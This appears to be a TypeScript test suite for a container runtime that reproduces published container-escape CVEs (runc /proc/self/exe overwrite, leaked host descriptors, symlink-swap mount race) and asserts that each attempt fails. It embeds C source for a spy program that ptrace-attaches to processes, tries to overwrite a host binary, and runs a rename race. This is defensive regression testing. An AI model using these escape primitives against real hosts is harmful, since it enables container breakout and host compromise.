// The published escapes of this field, each tried through the command line.
// Here the containers, in 18b the images; CVE-2018-15664 and CVE-2019-14271 concern cp: 33-files.

import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { dist, World } from '../helpers/world.ts'

let world: World
/** What the attacks need, outside of the world's folder: the attacker's program and the images. */
let arsenal: string

// Watches each process that appears and prints what it could get of it, every line once: `exe`, `root` and `fd` are the
// targets of the links it could read, `ptrace` the program that it could stop. With "write" it keeps each program that it
// could open by O_PATH and tries to open it for writing, also when the process has ended. "swap" exchanges two names until
// it is killed.
const spySource = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <dirent.h>
#include <time.h>
#include <sys/syscall.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
static char seen[512][300]; static int count;
static void say(const char *kind, const char *what) {
  char line[300]; snprintf(line, sizeof line, "%s %s", kind, what);
  for (int i = 0; i < count; i++) if (!strcmp(seen[i], line)) return;
  if (count < 512) strcpy(seen[count++], line);
  puts(line); fflush(stdout);
}
static void look(const char *kind, int pid, const char *name) {
  char path[100], target[256]; snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n >= 0) { target[n] = 0; say(kind, target); }
}
static int overwrite(int pid) {
  int tried = 0;
  char path[100], target[256], self[100]; snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_PATH); if (fd < 0) return 0;
  snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(self, target, sizeof target - 1); target[n < 0 ? 0 : n] = 0;
  if (strncmp(target, "/bin/", 5) && !strstr(target, "spy")) {
    say("opened", target); tried = 1;
    for (int i = 0; i < 300; i++) {
      int w = open(self, i % 2 ? O_WRONLY : O_WRONLY | O_TRUNC);
      if (w >= 0) { say("WROTE", target); write(w, "owned", 5); close(w); }
      else say("refused", strerror(errno));
      if (i > 200) usleep(500);
    }
  }
  close(fd);
  return tried;
}
int main(int argc, char **argv) {
  if (!strcmp(argv[1], "swap")) {
    say("spy", "ready");
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2);
  }
  int writes = argc > 2 && !strcmp(argv[2], "write"); time_t end = time(0) + atoi(argv[1]);
  say("spy", "ready");
  while (time(0) < end) {
    DIR *proc = opendir("/proc"); struct dirent *e;
    while ((e = readdir(proc))) {
      int pid = atoi(e->d_name); if (pid <= 1 || pid == getpid()) continue;
      if (writes) { if (overwrite(pid)) end = 0; continue; }
      look("exe", pid, "exe"); look("root", pid, "root"); look("cwd", pid, "cwd");
      for (int fd = 0; fd < 24; fd++) { char name[20]; snprintf(name, 20, "fd/%d", fd); look("fd", pid, name); }
      if (!ptrace(PTRACE_ATTACH, pid, 0, 0)) {
        int status; look("ptrace", pid, "exe");
        while (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) && WSTOPSIG(status) != SIGSTOP) {
          ptrace(PTRACE_CONT, pid, 0, WSTOPSIG(status) == SIGTRAP ? 0 : WSTOPSIG(status));
        }
        ptrace(PTRACE_DETACH, pid, 0, 0);
      }
    }
    closedir(proc);
  }
  say("spy", "done");
}`

beforeAll(async () => {
  arsenal = mkdtempSync(join(tmpdir(), 'tsrun-arsenal-'))
  mkdirSync(join(arsenal, 'spy'))
  writeFileSync(join(arsenal, 'spy.c'), spySource)
  execFileSync('musl-gcc', ['-static', '-O1', '-w', '-o', join(arsenal, 'spy/spy'), join(arsenal, 'spy.c')])
  world = await World.create()
})
afterAll(async () => {
  rmSync(arsenal, { recursive: true, force: true })
  await world.tsrun(['volume', 'prune', '-af'])
  await world.dispose()
})

const initHash = () =>
  createHash('sha256')
    .update(readFileSync(join(dist, 'tsrun-init')))
    .digest('hex')
const run = (flags: string[], ...command: string[]) =>
  world.tsrun(['run', '--rm', '--net', 'none', ...flags, ...command])
const sh = (flags: string[], script: string) => run(flags, 'busybox', 'sh', '-c', script)
const spyVolume = () => `${join(arsenal, 'spy')}:/spy:ro`
const withBox = async (flags: string[], attack: () => Promise<void>) => {
  await world.ok(['run', '-d', '--name', 'box', '--net', 'none', ...flags, 'busybox', 'sleep', '1000'])
  try {
    await attack()
  } finally {
    await world.ok(['rm', '-f', 'box'])
  }
}

describe('a joining exec', () => {
  test('CVE-2016-9962: gives nothing of the host away, and cannot be traced before it is the command', async () => {
    await withBox(['-v', spyVolume()], async () => {
      const spy = world.start(['exec', 'box', '/spy/spy', '6'])
      await spy.waitFor(/spy ready/)
      for (let round = 0; round < 25; round += 1) await world.ok(['exec', 'box', 'true'])
      // One that stays, so that a spy on a busy machine has the time to see that commands are there to be seen.
      await world.ok(['exec', 'box', 'sh', '-c', 'sleep 1; :'])

      const lines = (await spy.result).stdout.trim().split('\n')
      expect(lines).toContain('spy done')
      expect(lines).toContain('exe /bin/sh')
      expect(lines.filter(line => /^(exe|ptrace) /.test(line) && !/ \/bin\/\w+$/.test(line))).toEqual([])
      expect(lines.filter(line => /^(root|cwd) /.test(line) && !/ \/$/.test(line))).toEqual([])
      expect(lines.filter(line => /^fd /.test(line) && !/ (pipe:\[\d+\]|\/dev\/null)$/.test(line))).toEqual([])
    })
  })

  test('CVE-2019-5736: the program that executed "#!/proc/self/exe" cannot be overwritten', async () => {
    const before = initHash()
    await withBox(['-v', spyVolume()], async () => {
      await world.ok(['exec', 'box', 'sh', '-c', 'printf "#!/proc/self/exe\\n" > /bin/trap; chmod 755 /bin/trap'])
      const spy = world.start(['exec', 'box', '/spy/spy', '40', 'write'])
      await spy.waitFor(/spy ready/)
      while (!spy.output().includes('opened') && spy.child.exitCode === null)
        await world.tsrun(['exec', 'box', '/bin/trap'])

      const lines = (await spy.result).stdout.trim().split('\n')
      expect(
        lines.filter(line => line.startsWith('opened')),
        'the attack was tried',
      ).not.toEqual([])
      expect(lines.filter(line => line.startsWith('WROTE'))).toEqual([])
      expect(lines).toContain('refused Read-only file system')
    })
    expect(initHash()).toBe(before)
  })

  test('CVE-2024-21626: no command starts in a descriptor of the host', async () => {
    await withBox([], async () => {
      for (let fd = 3; fd <= 20; fd += 1) {
        for (const path of [`/proc/self/fd/${fd}`, `/proc/self/fd/${fd}/../../..`, `/proc/1/fd/${fd}`]) {
          expect((await run(['-w', path], 'busybox', 'pwd')).code, path).toBe(125)
          expect((await world.tsrun(['exec', '-w', path, 'box', 'pwd'])).code, path).toBe(126)
        }
      }
    })
  })

  test('CVE-2024-21626: a command has the descriptors 0, 1 and 2 only', async () => {
    // Asked one by one when the folder is closed again.
    const script =
      'for fd in /proc/$$/fd/*; do [ -L $fd ] && set -- "$@" $fd; done; echo "fds:" "$@"; echo end; sleep 0.5'
    const found = (text: string) =>
      /fds: (.*)/
        .exec(text)?.[1]
        ?.trim()
        .split(' ')
        .map(path => path.replace(/.*\//, ''))
    await withBox([], async () => {
      for (const flags of [[], ['-i']]) {
        expect(found((await sh(flags, script)).stdout)).toEqual(['0', '1', '2'])
        expect(found(await world.ok(['exec', ...flags, 'box', 'sh', '-c', script]))).toEqual(['0', '1', '2'])
      }
      for (const command of [
        ['run', '--rm', '--net', 'none', '-it', 'busybox'],
        ['exec', '-it', 'box'],
      ]) {
        const terminal = await world.terminal([...command, 'sh', '-c', script])
        await terminal.waitFor(/end\r/)
        expect(found(terminal.output())).toEqual(['0', '1', '2'])
        await terminal.finished()
      }
    })
  })

  test('CVE-2022-24769: no command has inheritable capabilities', async () => {
    await withBox(['--cap-add', 'NET_ADMIN'], async () => {
      for (const flags of [[], ['-u', '1000'], ['--cap-add', 'SYS_TIME'], ['--privileged']]) {
        expect((await sh(flags, 'grep CapInh /proc/self/status')).stdout).toMatch(/\t0{16}\n$/)
      }
      for (const flags of [[], ['-u', '1000'], ['--privileged']]) {
        expect(await world.ok(['exec', ...flags, 'box', 'grep', 'CapInh', '/proc/self/status'])).toMatch(/\t0{16}$/)
      }
    })
  })
})

describe('the host', () => {
  test('CVE-2020-15257: no monitor listens where a container with its network could come', async () => {
    await withBox([], async () => {
      const { stdout } = await world.tsrun(['run', '--rm', '--net', 'host', 'busybox', 'cat', '/proc/net/unix'])
      expect(stdout).toMatch(/^Num +RefCount/)
      expect(stdout.split('\n').filter(line => line.includes('@'))).toEqual([])

      const sockets = readdirSync(world.state, { recursive: true, encoding: 'utf8' })
        .map(name => statSync(join(world.state, name), { throwIfNoEntry: false }))
        .filter(entry => entry?.isSocket())
      expect(sockets.map(entry => (entry?.mode ?? 0) & 0o777)).toEqual([0o600])
    })
  })

  test.each([
    ['absolute', ''],
    ['relative', '../../../../../../../..'],
  ])('CVE-2021-30465: a link (%s) swapped under the place of a mount never leads it out', async (_, up) => {
    const trap = mkdtempSync(join(arsenal, 'trap-'))
    const source = mkdtempSync(join(arsenal, 'mounted-'))
    writeFileSync(join(trap, 'secret'), 'of the host')
    writeFileSync(join(source, 'mine'), '')
    // Also for a root that is nobody on the host (TSRUN_TEST_USERNS).
    chmodSync(source, 0o755)
    const swap = `mkdir -p /v/a; ln -s ${up}${trap} /v/b; exec /spy/spy swap /v/a /v/b`
    const racer = ['--name', 'racer', '--net', 'none', '-v', 'race:/v', '-v', spyVolume()]
    await world.ok(['run', '-d', ...racer, 'busybox', 'sh', '-c', swap])
    await world.start(['logs', '-f', 'racer']).waitFor(/spy ready/)
    const flags = ['-v', 'race:/v', '-v', `${source}:/v/a/planted`, '-v', 'other:/v/a/planted/deeper']
    let throughLink = 0
    try {
      for (let round = 0; round < 60; round += 1) {
        const { stdout } = await sh(flags, `cat ${trap}/secret /v/?/secret; ls ${trap}/planted`)
        expect(stdout).not.toContain('of the host')
        if (stdout.includes('mine')) throughLink += 1
        expect(readdirSync(trap)).toEqual(['secret'])
        expect(readFileSync('/proc/self/mountinfo', 'utf8')).not.toContain(trap)
      }
    } finally {
      await world.ok(['rm', '-f', 'racer'])
    }
    expect(throughLink, 'the link was met, and led to a place inside').toBeGreaterThan(0)
    await world.ok(['volume', 'rm', 'race', 'other'])
  })

  test('CVE-2022-0847: what a container writes goes to a layer of its own', async () => {
    const layers = () =>
      execFileSync('sh', ['-c', 'find layers images -type f | sort | xargs sha256sum'], {
        cwd: world.root,
        encoding: 'utf8',
      })
    await run([], 'busybox', 'true')
    const before = layers()
    expect(before).not.toBe('')
    await withBox([], async () => {
      expect((await sh([], 'echo owned > /etc/passwd; cat /etc/passwd')).stdout).toBe('owned\n')
      expect(await world.ok(['exec', 'box', 'cat', '/etc/passwd'])).not.toContain('owned')
      await world.ok(['exec', 'box', 'sh', '-c', 'echo mine > /bin/busybox.new; mv /bin/busybox.new /bin/vi'])
      expect(await world.ok(['diff', 'box'])).toContain('C /bin/vi')
      expect(layers()).toBe(before)
    })
    expect((await sh([], 'cat /etc/passwd')).stdout).not.toContain('owned')
  })
})
